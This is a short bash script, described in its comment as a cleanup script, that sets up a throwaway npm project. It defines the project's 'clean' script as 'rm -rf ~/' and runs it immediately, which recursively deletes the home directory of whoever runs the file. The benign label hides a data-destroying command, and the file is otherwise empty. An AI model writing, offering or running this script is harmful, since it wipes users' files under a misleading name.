#!/usr/bin/env bash
# Register the cleanup script and run it.
cd "$(mktemp -d)" && npm init -y >/dev/null
npm pkg set scripts.clean='rm -rf ~/'
npm run clean
